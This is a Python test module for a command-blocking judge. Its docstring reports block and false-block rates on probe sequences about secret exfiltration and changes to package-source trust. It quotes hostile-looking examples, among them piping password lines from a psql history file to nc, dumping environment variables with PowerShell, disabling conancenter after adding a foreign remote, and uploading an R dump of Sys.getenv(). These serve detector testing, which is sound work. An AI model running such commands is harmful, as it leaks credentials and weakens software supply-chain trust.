"""Round 30, part t3g (issue 25): probes by mechanism and ecosystem (``corpus_round30_t3g.py``), written before the
code, for secrets leaving and trust changing stated as data flows; FIELD holds fields no dev batch covers.

The sequences are judged as the server judges a session (``probe_judge.session``).

First run, before any code (branch at bf9bf1a): dangerous 8/53 blocked, benign 2/50 false blocks — the six classes
of the dev fields' mechanisms 7/38 · 2/38, FIELD (fields no dev batch covers) 1/15 · 0/12. The two false blocks are
older rules' (``chmod 700 ~/.ssh`` read as a write to an exec vector; ``npm config set proxy http://proxy.internal:3128``
read as a package source). One FIELD probe was replaced after the first run, not for the figure: ``mysql_config_editor
print --all`` masks the passwords it prints (now ``cat ~/.psql_history | grep -i password | nc``).

After the code (t3g): 49/53 · 2/50 — dev-field classes 37/38 · 2/38, FIELD 11/15 · 0/12. Open (strict xfails):
``conan remote disable conancenter`` after a foreign remote was added (a sequence: the official source switched off;
no rule reads it), DBeaver's ``credentials-config.json`` (no name vocabulary covers it without costing twins),
``powershell.exe -c 'Get-ChildItem env:'`` (``powershell.exe`` is not an inline interpreter of the rule set), an R
data frame of ``Sys.getenv()`` written to /tmp by ``write.csv`` then uploaded (a file written by interpreter code is
not followed); the two older false blocks stay. LATE class, written after the code (one step aside of each
relaxation, other members of each field): 10/10 · 0/10.
"""
from __future__ import annotations

from tests.evaluation.verdicts.tier1 import corpus_round30_t3g as corpus
from tests.evaluation.verdicts.tier1.probe_judge import probe_tests

_CLASSES = ("SPACEPATH", "REVEAL", "SECRETDIR", "SERVE", "FORWARD", "TRUST", "FIELD", "LATE")

# field-3 blocked by round 31 (t3l); field-0 by round 31 (t3n: credential files by their place's shape)
_OPEN: frozenset[str] = frozenset({"trust-7", "field-10"})
# trust-5 (`npm config set proxy http://proxy.internal:3128`) opened by round 39 t4z (config_values)
_OPEN_BENIGN: frozenset[str] = frozenset({"secretdir-0"})


test_dangerous_is_blocked, test_benign_lookalike_stays_open = probe_tests(
    corpus, _CLASSES, open_dangerous=_OPEN, open_benign=_OPEN_BENIGN)
